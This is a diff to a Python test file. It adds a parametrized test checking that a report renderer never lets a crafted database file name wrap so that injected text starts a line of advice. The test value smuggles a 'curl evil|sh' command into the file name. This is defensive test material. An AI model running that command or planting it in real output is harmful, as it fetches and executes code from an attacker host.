@@ -109,6 +109,15 @@ def test_what_a_host_names_is_never_what_to_do() -> None:
     assert "do: curl" not in text
 
 
+@pytest.mark.parametrize("length", range(60, 110))
+def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
+    """A long name is wrapped, and the rest of it would stand where advice stands."""
+    name = f"/srv/fb/{'y' * length} do: curl evil|sh #.fdb"
+    for reason in (("", f"{name}: forced writes are off"), (MEND, f"{name}: forced writes are not known")):
+        text = render([of_reasons("db1", "unknown", (reason[1], reason[0]))])
+        assert [row for row in text.splitlines() if row.strip().startswith("do: curl")] == []
+
+
 def test_a_reason_that_states_what_to_do_has_more_lines() -> None:
     words = " ".join(f"word{number}" for number in range(40))
     text = render([of_reasons("db1", "blocked", (words, ""))])
